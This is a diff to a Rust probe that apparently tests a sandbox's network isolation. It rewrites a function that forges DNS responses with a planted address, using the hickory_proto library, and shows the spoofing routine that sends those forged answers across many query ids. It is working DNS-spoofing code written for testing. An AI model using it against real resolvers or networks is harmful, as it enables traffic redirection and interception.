@@ -20,6 +20,10 @@
 //! sandbox is the victim) and connects to the planted address on every `--port`. One JSON
 //! report on stdout; with `--no-trigger`, a `{"stage":"planted"}` line first.
 
+use hickory_proto::op::{Header, Message, MessageType, OpCode, Query};
+use hickory_proto::rr::rdata::{A, AAAA};
+use hickory_proto::rr::{RData, Record};
+use hickory_proto::serialize::binary::{BinDecodable, BinDecoder};
 use serde_json::{json, Map, Value};
 use socket2::{Domain, Protocol, SockAddr, Socket, Type};
 use std::io::{Read, Write};
@@ -267,49 +271,32 @@ fn io_name(e: &std::io::Error) -> String {
     super::errno_name(e)
 }
 
-/// The question section of a query: its end offset (after type and class).
-fn question_end(q: &[u8]) -> Option<usize> {
-    let mut o = 12;
-    loop {
-        let len = *q.get(o)? as usize;
-        if len == 0 {
-            return (o + 5 <= q.len()).then_some(o + 5);
-        }
-        if len > 63 {
-            return None;
-        }
-        o += 1 + len;
-    }
-}
-
-/// Our answer to a query we intercepted: its id and question verbatim (spelling included),
-/// one record with the planted address.
+/// Our answer to a query we intercepted: its id and question (spelling included), one
+/// record with the planted address.
 fn forged_answer(query: &[u8], addr: IpAddr) -> Option<Vec<u8>> {
-    if query.len() < 12 || query[2] & 0x80 != 0 {
+    let mut d = BinDecoder::new(query);
+    let header = Header::read(&mut d).ok()?;
+    if header.message_type == MessageType::Response {
         return None;
     }
-    let end = question_end(query)?;
-    let mut m = query[..end].to_vec();
-    m[2] = 0x80 | (query[2] & 0x01);
-    m[3] = 0x80;
-    m[4..12].copy_from_slice(&[0, 1, 0, 1, 0, 0, 0, 0]);
-    let (ty, rdata) = match addr {
-        IpAddr::V4(a) => (1u16, a.octets().to_vec()),
-        IpAddr::V6(a) => (28u16, a.octets().to_vec()),
+    let question = Query::read(&mut d).ok()?;
+    let name = question.name().clone();
+    let mut m = Message::response(header.id, OpCode::Query);
+    m.metadata.recursion_desired = header.recursion_desired;
+    m.metadata.recursion_available = true;
+    m.add_query(question);
+    let rdata = match addr {
+        IpAddr::V4(a) => RData::A(A(a)),
+        IpAddr::V6(a) => RData::AAAA(AAAA(a)),
     };
-    m.extend_from_slice(&[0xc0, 12]);
-    m.extend_from_slice(&ty.to_be_bytes());
-    m.extend_from_slice(&[0, 1]);
-    m.extend_from_slice(&3600u32.to_be_bytes());
-    m.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
-    m.extend_from_slice(&rdata);
-    Some(m)
+    m.add_answer(Record::from_rdata(name, 3600, rdata));
+    m.to_vec().ok()
 }
 
 /// Sends the probe's own query for the name and returns the socket to read its answer on.
 fn send_trigger(o: &Opts) -> std::io::Result<UdpSocket> {
     let s = super::udp_socket(&o.ask)?;
-    s.send(&super::dns_query(&o.name, 0x7a7a, 1))?;
+    s.send(&super::dns_query(&o.name, 0x7a7a, 1)?)?;
     Ok(s)
 }
 
@@ -523,8 +510,8 @@ fn spoof_udp(o: &Opts, r: &mut Map<String, Value>) -> Result<(), String> {
     let trig = send_trigger(o).map_err(|e| format!("trigger: {e}"))?;
     let _ = trig.set_nonblocking(true);
     // Answers for every id, spelled as asked: the victim takes the first that matches.
-    let template = forged_answer(&super::dns_query(&o.name, 0, 1), o.answer)
-        .ok_or("cannot build the answer")?;
+    let query = super::dns_query(&o.name, 0, 1).map_err(|e| e.to_string())?;
+    let template = forged_answer(&query, o.answer).ok_or("cannot build the answer")?;
     let deadline = Instant::now() + secs(3);
     let mut sent = 0u64;
     let mut errors = Map::new();
